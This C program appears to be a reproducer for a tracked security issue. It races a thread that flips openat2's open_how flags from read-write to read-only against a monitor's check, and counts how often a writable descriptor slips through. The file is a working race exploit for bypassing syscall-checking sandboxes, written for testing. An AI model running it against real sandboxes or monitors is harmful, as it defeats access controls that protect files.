/* The openat2 flag race (issue 8, case 1): the kernel copies struct
 * open_how when openat2(2) starts; a second thread then rewrites
 * how.flags from O_RDWR to O_RDONLY, hoping the monitor reads the new
 * value. A long path of "../<dir>" pairs widens the window, and the
 * flip delay sweeps from nothing to a few tens of microseconds.
 *   flip PATH TRIES SECONDS
 * prints "tries T write W read R denied D other O" (W: fds that came
 * back with write access) and exits 0. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <libgen.h>
#include <linux/openat2.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static struct open_how how __attribute__((aligned(64)));
static unsigned long flip_go, flip_done, flip_delay;

static void *
flip_thread(void *arg)
{
	unsigned long seen = 0;

	(void)arg;
	for (;;) {
		unsigned long go;

		while ((go = __atomic_load_n(&flip_go, __ATOMIC_ACQUIRE)) ==
		    seen)
			;
		if (go == ~0UL)
			return NULL;
		seen = go;
		for (volatile unsigned long i = 0; i < flip_delay; i++)
			;
		__atomic_store_n(&how.flags, (unsigned long long)O_RDONLY,
		    __ATOMIC_RELEASE);
		__atomic_store_n(&flip_done, seen, __ATOMIC_RELEASE);
	}
}

/* DIR/../BASE/../BASE/.../FILE, as long as PATH_MAX allows. */
static char *
flip_long_path(const char *path)
{
	char *d = strdup(path), *f = strdup(path), *out = malloc(4096);
	const char *dir = dirname(d), *file = basename(f);
	char *tmp = strdup(dir);
	const char *base = basename(tmp);
	size_t len;

	len = (size_t)snprintf(out, 4096, "%s", dir);
	while (len + strlen(base) + strlen(file) + 8 < 4000)
		len += (size_t)snprintf(out + len, 4096 - len, "/../%s", base);
	snprintf(out + len, 4096 - len, "/%s", file);
	return out;
}

static double
flip_now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

int
main(int argc, char **argv)
{
	long tries, t, wr = 0, rd = 0, denied = 0, other = 0;
	double end;
	char *path;
	pthread_t th;

	if (argc != 4)
		return 2;
	path = flip_long_path(argv[1]);
	tries = atol(argv[2]);
	end = flip_now() + atof(argv[3]);
	if (pthread_create(&th, NULL, flip_thread, NULL) != 0)
		return 2;
	for (t = 0; t < tries && flip_now() < end; t++) {
		int fd;

		how.flags = O_RDWR;
		flip_delay = (unsigned long)(t % 64) * 40;
		__atomic_store_n(&flip_go, (unsigned long)t + 1,
		    __ATOMIC_RELEASE);
		fd = (int)syscall(SYS_openat2, AT_FDCWD, path, &how,
		    sizeof(how));
		if (fd >= 0) {
			if ((fcntl(fd, F_GETFL) & O_ACCMODE) != O_RDONLY)
				wr++;
			else
				rd++;
			close(fd);
		} else if (errno == EPERM)
			denied++;
		else
			other++;
		while (__atomic_load_n(&flip_done, __ATOMIC_ACQUIRE) !=
		    (unsigned long)t + 1)
			;
	}
	__atomic_store_n(&flip_go, ~0UL, __ATOMIC_RELEASE);
	pthread_join(th, NULL);
	printf("tries %ld write %ld read %ld denied %ld other %ld\n", t, wr,
	    rd, denied, other);
	return 0;
}
